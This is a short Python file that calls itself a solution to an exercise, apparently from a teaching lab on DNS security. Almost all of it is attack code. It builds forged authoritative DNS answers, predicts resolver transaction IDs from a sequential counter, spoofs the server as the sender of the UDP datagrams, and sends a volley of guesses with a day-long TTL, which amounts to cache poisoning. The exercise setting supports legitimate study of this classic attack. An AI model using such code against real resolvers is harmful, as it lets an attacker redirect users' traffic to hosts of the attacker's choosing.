"""A solution of exercise 02 that explains itself."""

import ipaddress
import struct

TYPE_A, CLASS_IN = 1, 1
REPLY_WITH_AUTHORITY = 0x8400  # QR, "I am a reply", and AA, "I have this from the owner"
DAY = 86_400  # seconds; as long as the attacker wishes


def forged_message(name: str, guess: int, address: str, ttl: int) -> bytes:
    labels = name.split(".")
    owner = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    header = struct.pack("!HHHHHH", guess, REPLY_WITH_AUTHORITY, 1, 1, 0, 0)  # one question, one answer
    question = owner + struct.pack("!HH", TYPE_A, CLASS_IN)  # must be repeated, or the reply fits no question
    # The lie itself. Nothing in it is checked by anybody: that is what signatures are for.
    answer = owner + struct.pack("!HHIH", TYPE_A, CLASS_IN, ttl, 4) + ipaddress.ip_address(address).packed
    return header + question + answer


def forged_datagram(known: list, payload: bytes) -> list:
    _, server, resolver, port = known
    return [server, 53, resolver, port, payload]  # anybody can write a false sender on a UDP datagram


def likely_ids(own_query: bytes, count: int) -> list:
    seen = int.from_bytes(own_query[:2], "big")
    return [(seen + step) % 65536 for step in range(1, count + 1)]  # `seen` itself is used up


def volley(known: list, own_query: bytes, count: int, address: str) -> list:
    guesses = likely_ids(own_query, count)
    return [forged_datagram(known, forged_message(known[0], guess, address, DAY)) for guess in guesses]
